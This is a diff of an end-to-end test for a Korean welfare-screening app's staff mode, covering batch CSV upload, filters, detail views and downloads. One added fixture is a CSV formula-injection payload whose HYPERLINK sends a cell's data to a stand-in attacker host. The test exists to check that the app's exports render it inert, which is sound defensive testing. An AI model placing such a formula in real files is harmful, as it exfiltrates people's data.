@@ -1,8 +1,9 @@
 /**
  * Staff mode in Chromium (desktop size, as at a 동주민센터 desk): an applicant entered from the
  * keyboard alone through the documented shortcuts, the printed handout, "next applicant" wiping
- * everything, and batch CSV screening in a worker: template round trip, a bad row reported, filters,
- * results download. Nothing is written to any storage, nothing breaks the CSP, axe finds nothing.
+ * everything, and batch CSV screening in a worker: template and legend, round trip, a bad row reported,
+ * filters, a household's detail, both downloads (formula payloads inert). Nothing is written to any
+ * storage, nothing breaks the CSP, axe finds nothing.
  */
 import { readFileSync } from 'node:fs';
 import Papa from 'papaparse';
@@ -111,8 +112,10 @@ describe('staff consultation', () => {
 
 const HEADER = '가구ID,거주지,월소득인정액,성인1 생년월일,성인1 성별,성인1 임신중,자녀1 생년월일,자녀1 서울출생신고';
 
+const FORMULA = '=HYPERLINK("http://evil.example/?d="&B2,"click")';
+
 describe('batch CSV screening', () => {
-  it('round-trips the template, reports a bad row, filters, and downloads the filtered results', async () => {
+  it('round-trips the template, reports a bad row, filters, shows a detail, and downloads safe CSVs', async () => {
     const { page, errors } = await open('#/staff/batch');
     await page.getByRole('heading', { level: 2, name: 'CSV로 여러 가구 한 번에 확인' }).waitFor();
 
@@ -125,6 +128,15 @@ describe('batch CSV screening', () => {
     const templateBytes = readFileSync(templatePath);
     expect([...templateBytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
     expect(templateBytes.toString('utf8')).toContain('가구ID,기준일,거주지');
+    // The examples are dated from today: the first one's 기준일.
+    expect(templateBytes.toString('utf8')).toContain(`예시-1,${today},`);
+
+    const [legend] = await Promise.all([
+      page.waitForEvent('download'),
+      page.getByRole('button', { name: '입력 안내 내려받기 (CSV)' }).click(),
+    ]);
+    expect(legend.suggestedFilename()).toBe('가구_일괄확인_입력안내.csv');
+    expect(readFileSync((await legend.path())!, 'utf8')).toMatch(/^\uFEFF열 이름,영문 키,적는 법/);
 
     const file = page.getByLabel('CSV 파일 선택', { exact: true });
     await file.setInputFiles(templatePath);
@@ -136,11 +148,12 @@ describe('batch CSV screening', () => {
       `H1,서울,4200000,1993-05-02,여,아니오,${plusDays(today, -20)},`,
       `H2,서울,x,1990-01-01,여,아니오,,`,
       `H3,기타,3000000,1988-01-01,남,아니오,${plusDays(today, -30)},예`,
+      `"${FORMULA.replace(/"/g, '""')}",경기도,420만,1990-01-01,여,아니오,,`,
     ].join('\r\n');
     await file.setInputFiles({ name: 'households.csv', mimeType: 'text/csv', buffer: Buffer.from(`\uFEFF${sheet}`) });
-    await page.getByText(/^3가구를 확인했어요 .*입력 오류 1가구\.$/).waitFor();
+    await page.getByText(/^4가구를 확인했어요 .*입력 오류 1가구\.$/).waitFor();
     const problems = page.getByRole('region', { name: /입력 오류/ });
-    expect(await problems.innerText()).toContain('3행 · 월소득인정액: 숫자로 적어 주세요 ("x")');
+    expect(await problems.innerText()).toContain('3행 · 월소득인정액: 숫자로 적어 주세요: 4200000, 4,200,000, 420만 또는 420만원 ("x")');
 
     const table = page.getByRole('table');
     expect(await table.locator('caption').innerText()).toMatch(/^결과 \d+줄/);
@@ -158,6 +171,16 @@ describe('batch CSV screening', () => {
       '자녀1 서울출생신고',
     ]);
     expect(await axeViolations(page)).toEqual([]);
+
+    // A household's detail: re-evaluated on demand, shown with the resident's result cards.
+    await table.getByRole('button', { name: 'H1 가구 자세히 보기' }).click();
+    const detail = page.getByRole('region', { name: 'H1 가구 (2행) 자세히' });
+    await detail.waitFor();
+    expect(await page.evaluate(() => document.activeElement?.id)).toBe('batch-detail-title');
+    expect(await detail.getByRole('heading', { level: 3, name: /확인이 필요해요/ }).count()).toBe(1);
+    expect(await axeViolations(page)).toEqual([]);
+    await detail.getByRole('button', { name: '자세히 닫기' }).click();
+    expect(await detail.count()).toBe(0);
 
     const [results] = await Promise.all([page.waitForEvent('download'), page.getByRole('button', { name: '결과 CSV 내려받기' }).click()]);
     const lines = Papa.parse<string[]>(readFileSync((await results.path())!, 'utf8').replace(/^\uFEFF/, ''), { skipEmptyLines: true }).data;
@@ -179,7 +202,23 @@ describe('batch CSV screening', () => {
     await page.getByRole('combobox', { name: '혜택' }).selectOption({ label: '전체' });
     await page.getByRole('combobox', { name: '상태' }).selectOption('invalid');
     await table.locator('caption', { hasText: '결과 1줄' }).waitFor();
-    expect(await table.locator('tbody tr').first().innerText()).toContain('월소득인정액: 숫자로 적어 주세요 ("x")');
+    expect(await table.locator('tbody tr').first().innerText()).toContain('월소득인정액: 숫자로 적어 주세요');
+
+    // Every line, and the summary: the formula in a household ID comes out as text.
+    await page.getByRole('combobox', { name: '상태' }).selectOption({ label: '전체' });
+    await table.locator('caption', { hasText: /결과 \d{2,}줄/ }).waitFor();
+    const [all] = await Promise.all([page.waitForEvent('download'), page.getByRole('button', { name: '결과 CSV 내려받기' }).click()]);
+    const allLines = Papa.parse<string[]>(readFileSync((await all.path())!, 'utf8').replace(/^\uFEFF/, ''), { skipEmptyLines: true }).data;
+    expect(new Set(allLines.slice(1).map((l) => l[1]))).toEqual(new Set(['H1', 'H2', 'H3', `'${FORMULA}`]));
+    const [perHousehold] = await Promise.all([
+      page.waitForEvent('download'),
+      page.getByRole('button', { name: '가구별 요약 CSV 내려받기' }).click(),
+    ]);
+    expect(perHousehold.suggestedFilename()).toBe('일괄확인_가구별요약.csv');
+    const summary = Papa.parse<string[]>(readFileSync((await perHousehold.path())!, 'utf8').replace(/^\uFEFF/, ''), {
+      skipEmptyLines: true,
+    }).data;
+    expect(summary.map((l) => l[1])).toEqual(['가구ID', 'H1', 'H2', 'H3', `'${FORMULA}`]);
 
     expect(await storedAnything(page)).toEqual(NOTHING_STORED);
     expect(errors).toEqual([]);
